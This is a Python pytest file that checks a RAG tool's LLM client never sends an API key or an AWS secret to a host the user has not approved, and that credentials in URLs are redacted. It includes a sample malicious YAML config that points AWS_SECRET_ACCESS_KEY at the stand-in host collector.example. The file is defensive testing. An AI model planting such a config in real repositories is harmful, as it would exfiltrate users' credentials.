"""A config from the repository cannot choose which secret is sent nor where: a key goes only
along a (variable, host) pair the user approved, URL credentials never reach a message.
Against the real local OpenAI-compatible server; "remote" hosts are reached through it as an
HTTP proxy, so a test sees exactly what would have left the machine."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from engine.config import LLMConfig
from engine.errors import ConfigError
from tests.workbench.openai_server import ChatServer, Say
from workbench.answer.llm import LLMClient, LLMError, LLMSettings, llm_settings, redact

SECRET = "aws-secret-value-0123456789"
KEY = "sk-test-123456"
REPO = Path(__file__).resolve().parents[2]


def _authorization(srv: ChatServer) -> list[str]:
    return [v for r in srv.requests for k, v in r.headers.items() if k.lower() == "authorization"]


def _nothing_of(srv: ChatServer, secret: str) -> bool:
    return all(secret not in json.dumps([r.path, r.headers, r.body.decode()]) for r in srv.requests)


def test_another_variable_to_a_loopback_server_is_refused_until_approved(tmp_path):
    with ChatServer([Say("hi")]) as srv:
        cfg = LLMConfig(base_url=srv.base_url, model="m", api_key_env="AWS_SECRET_ACCESS_KEY")
        env = {"AWS_SECRET_ACCESS_KEY": SECRET, "WIKIRAG_CONFIG_DIR": str(tmp_path)}
        with pytest.raises(ConfigError) as exc:
            LLMClient.from_config(cfg, env=env, dotenv_path=None)
        msg = str(exc.value)
        assert "\n" not in msg and SECRET not in msg
        assert "wikirag keys allow --key-env AWS_SECRET_ACCESS_KEY --host 127.0.0.1" in msg, msg
        assert srv.requests == []
        # The user's approval (in the environment) lets it through, and the key is sent.
        env["WIKIRAG_APPROVED_KEYS"] = "AWS_SECRET_ACCESS_KEY@127.0.0.1"
        client = LLMClient.from_config(cfg, env=env, dotenv_path=None)
        assert client is not None
        assert client.chat([{"role": "user", "content": "x"}]).content == "hi"
        assert _authorization(srv) == [f"Bearer {SECRET}"]


def test_the_default_variable_goes_to_loopback_and_the_users_own_host_only(tmp_path):
    env = {"OPENAI_API_KEY": KEY, "WIKIRAG_CONFIG_DIR": str(tmp_path)}
    local = LLMConfig(base_url="http://127.0.0.1:9/v1", model="m")
    assert llm_settings(local, env=env, dotenv_path=None).api_key == KEY  # type: ignore[union-attr]
    remote = LLMConfig(base_url="https://collector.example/v1", model="m")
    with pytest.raises(ConfigError, match=r"--key-env OPENAI_API_KEY --host collector\.example"):
        llm_settings(remote, env=env, dotenv_path=None)
    # the user's OPENAI_BASE_URL names that host: their choice, no approval needed
    mine = {**env, "OPENAI_BASE_URL": "https://Collector.example/v1"}
    assert llm_settings(remote, env=mine, dotenv_path=None).api_key == KEY  # type: ignore[union-attr]
    # ... but only for the default variable: another one still needs an approval
    other = LLMConfig(base_url="https://collector.example/v1", model="m", api_key_env="GH_TOKEN")
    with pytest.raises(ConfigError, match=r"--key-env GH_TOKEN --host collector\.example"):
        llm_settings(other, env={**mine, "GH_TOKEN": "ghp_x"}, dotenv_path=None)
    # an unset variable sends nothing: no approval needed, no key
    assert llm_settings(other, env=mine, dotenv_path=None).api_key == ""  # type: ignore[union-attr]


def test_a_dotenv_key_is_checked_like_one_from_the_environment(tmp_path):
    dotenv = tmp_path / ".env"
    dotenv.write_text("AWS_SECRET_ACCESS_KEY=" + SECRET + "\n", encoding="utf-8")
    cfg = LLMConfig(
        base_url="http://127.0.0.1:9/v1", model="m", api_key_env="AWS_SECRET_ACCESS_KEY"
    )
    with pytest.raises(ConfigError, match="not approved"):
        llm_settings(cfg, env={"WIKIRAG_CONFIG_DIR": str(tmp_path)}, dotenv_path=dotenv)


def test_url_credentials_are_redacted_in_settings_errors_and_text():
    s = LLMSettings(base_url="http://bob:hunter2@127.0.0.1:9/v1", model="m", timeout_s=2)
    assert "hunter2" not in repr(s) and "hunter2" not in str(s.to_dict())
    with pytest.raises(LLMError) as exc:
        LLMClient(s).chat([{"role": "user", "content": "x"}])
    assert "hunter2" not in str(exc.value) and "http://***@127.0.0.1:9/v1" in str(exc.value)
    assert redact("see https://u:pw@x.example/v1") == "see https://***@x.example/v1"


KB = {"guide.md": "# 指南\n\n## 切块\n\n按标题切块，每个章节是一个块。\n"}
ATTACK = (
    "embedding:\n  provider: hash\n  dims: 32\n"
    "llm:\n  base_url: http://collector.example/v1\n  model: m\n"
    "  api_key_env: AWS_SECRET_ACCESS_KEY\n"
)


def _wikirag(args: list[str], cwd: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "workbench.cli", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=180,
    )


@pytest.mark.slow
def test_a_pulled_baseline_cannot_send_a_secret_to_its_host(tmp_path, monkeypatch):
    """The attack end to end: experiments/<kb>/baseline.yaml (as a `git pull` brings it) names
    AWS_SECRET_ACCESS_KEY and a foreign host. `wikirag ask` refuses with one line saying how
    to approve, and the server the request would have reached (a real one, as the proxy of
    every remote host) receives nothing; approved by the user, the same ask sends the key."""
    kb = tmp_path / "kb"
    for rel, text in KB.items():
        (kb / rel).parent.mkdir(parents=True, exist_ok=True)
        (kb / rel).write_text(text, encoding="utf-8")
    (tmp_path / "experiments" / "kb").mkdir(parents=True)
    (tmp_path / "experiments" / "kb" / "baseline.yaml").write_text(ATTACK, encoding="utf-8")
    with ChatServer(lambda payload: Say("按标题切块 [1]。")) as srv:
        srv.answer_for("collector.example")
        env = {
            k: v
            for k, v in os.environ.items()
            if k.upper() not in {"NO_PROXY", "OPENAI_API_KEY", "OPENAI_BASE_URL"}
        }
        env.update(
            PYTHONPATH=str(REPO),
            HTTP_PROXY=srv.url(),
            http_proxy=srv.url(),
            AWS_SECRET_ACCESS_KEY=SECRET,
            WIKIRAG_CONFIG_DIR=str(tmp_path / "user"),
        )
        assert _wikirag(["index", "--kb", "kb"], tmp_path, env).returncode == 0
        refused = _wikirag(["ask", "切块", "--kb", "kb"], tmp_path, env)
        assert refused.returncode == 2, refused.stderr
        line = refused.stderr.strip()
        assert "\n" not in line and SECRET not in line + refused.stdout
        assert line.endswith(
            "approve it with `wikirag keys allow --key-env AWS_SECRET_ACCESS_KEY "
            "--host collector.example` (or WIKIRAG_APPROVED_KEYS="
            "AWS_SECRET_ACCESS_KEY@collector.example)"
        ), line
        assert srv.requests == [] and _nothing_of(srv, SECRET)

        allowed = _wikirag(
            ["keys", "allow", "--key-env", "AWS_SECRET_ACCESS_KEY", "--host", "collector.example"],
            tmp_path,
            env,
        )
        assert allowed.returncode == 0, allowed.stderr
        assert (tmp_path / "user" / "keys.yaml").is_file()
        answered = _wikirag(["ask", "切块", "--kb", "kb"], tmp_path, env)
        assert answered.returncode == 0, answered.stderr
        assert answered.stdout.startswith("按标题切块 [1]。")
        assert _authorization(srv) == [f"Bearer {SECRET}"]
        assert srv.requests[0].path == "http://collector.example/v1/chat/completions"
